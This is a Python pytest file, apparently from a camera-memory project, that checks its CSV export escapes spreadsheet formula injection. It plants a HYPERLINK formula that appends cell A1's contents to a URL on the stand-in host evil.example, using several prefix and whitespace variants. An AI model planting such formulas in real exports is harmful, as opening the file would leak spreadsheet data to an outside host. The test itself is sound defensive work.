"""Tables for spreadsheets, whose words anybody may have put before a camera."""

import csv
import dataclasses
import io

import pytest

from hippocam.apps.transfer.chapters import csv_lines
from hippocam.apps.wording import cell
from hippocam.memory.records import Entry, Level, Span

ENTRY = Entry(
    id=1, stream="cam", t0_s=0.0, t1_s=2.0, known_s=2.0, frame_s=1.0, surprise=1.0, utility=1.0, labels=(),
    text="", frames=1, repeats=0, jpeg_bytes=0, strength=1.0, met=1, uses=0, pinned=False, level=Level.WORDS,
    place=0, first_seq=0, spans=(Span(t0_s=0.0, t1_s=2.0, known_s=2.0),),
)  # fmt: skip
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize("before", ["", "\t", "\r", " ", "\n", "\ufeff", " \u00a0"])
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d"])
def test_no_cell_of_an_export_is_a_formula(before: str, sign: str) -> None:
    planted = before + sign + FORMULA[1:]
    entry = dataclasses.replace(ENTRY, text=planted, stream=planted)
    (row,) = csv.DictReader(io.StringIO("".join(csv_lines([entry], lambda _: planted)), newline=""))
    assert [row[name] for name in ("stream", "looks_like", "text")] == [f"'{planted}"] * 3


@pytest.mark.parametrize("text", ["", "a car", "2 = 1 + 1", "'quoted'", "0:05"])
def test_other_words_stay_as_they_are(text: str) -> None:
    assert cell(text) == text
